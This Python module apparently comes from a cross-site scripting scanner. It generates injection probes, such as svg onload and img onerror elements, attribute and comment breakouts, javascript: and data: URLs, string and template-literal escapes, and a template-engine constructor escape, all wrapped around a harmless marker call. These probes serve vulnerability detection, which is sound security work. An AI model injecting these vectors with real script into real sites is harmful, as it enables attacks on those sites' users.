# SPDX-License-Identifier: Apache-2.0
"""The one call that is ever sent as script, in each place where script can stand."""

from __future__ import annotations

from vedette.domain.chance import MARKER_PAD

CALLED = "vedette"
"""The function that our browser binds; in any other browser the call is an error without effect."""


def call(number: int) -> str:
    """Return the only script that is ever sent."""
    return f"{CALLED}({number})"


def element(number: int) -> str:
    """Return an element whose load runs the call: no spaces, because some applications split values there."""
    return f"<svg/onload={call(number)}>{MARKER_PAD}"


def element_after(closing: str, number: int) -> str:
    """Return the element behind what ends the present context, such as `</title>` or `">`."""
    return closing + element(number)


COMMENT_CLOSING = "'\"'-->"
"""Ends a comment of HTML. The three quotes keep it from being one of SQL: there they leave a literal open."""


def handler_after(quote: str, number: int) -> str:
    """Return an event handler for a start tag whose attribute value `quote` closes (a tab where there is no quote)."""
    if quote:
        return f"{quote}onfocus={quote}{call(number)}{quote}autofocus={quote}"
    return f"\tonfocus={call(number)}\tautofocus="


def image_after(closing: str, number: int) -> str:
    """Return an image without an address, whose error runs the call: it comes wherever markup is put into a page."""
    return f"{closing}<img/src/onerror={call(number)}>{MARKER_PAD}"


def script_document(number: int) -> str:
    """Return the call as an address that holds a script."""
    return f"data:text/javascript,{call(number)}"


def markup_document(number: int) -> str:
    """Return an address that holds markup: an image without an address, whose error runs the call."""
    return f"data:text/html,%3Cimg/src/onerror={call(number)}%3E"


def script_address(number: int) -> str:
    """Return the call as a URL."""
    return f"javascript:{call(number)}"


def operand_of(quote: str, number: int) -> str:
    """Return the call as an operand that joins two halves of a script's string."""
    return f"{quote}-{call(number)}-{quote}"


def operand_after_backslash(quote: str, number: int) -> str:
    """Return the operand for applications that escape the quote and forget the backslash."""
    return f"\\{quote}-{call(number)}//"


def template_slot(number: int) -> str:
    """Return the call inside a template literal."""
    return f"${{{call(number)}}}"


def braced_call(number: int) -> str:
    """Return the call for a template engine in the browser: from any value to the constructor of functions."""
    return f"{{{{constructor.constructor('{call(number)}')()}}}}"


def dead_braced_call(number: int) -> str:
    """Return the same text without its braces: the negative control."""
    return f"constructor.constructor('{call(number)}')()"


def operand_in_code(number: int) -> str:
    """Return the call as an operand behind a number or a name."""
    return f"-{call(number)}"


_LIVE = str.maketrans("", "", "<>\"'`(){}$\\\t-")


def dead(text: str) -> str:
    """Return `text` without every character that markup and script act on: the negative control."""
    return text.translate(_LIVE)
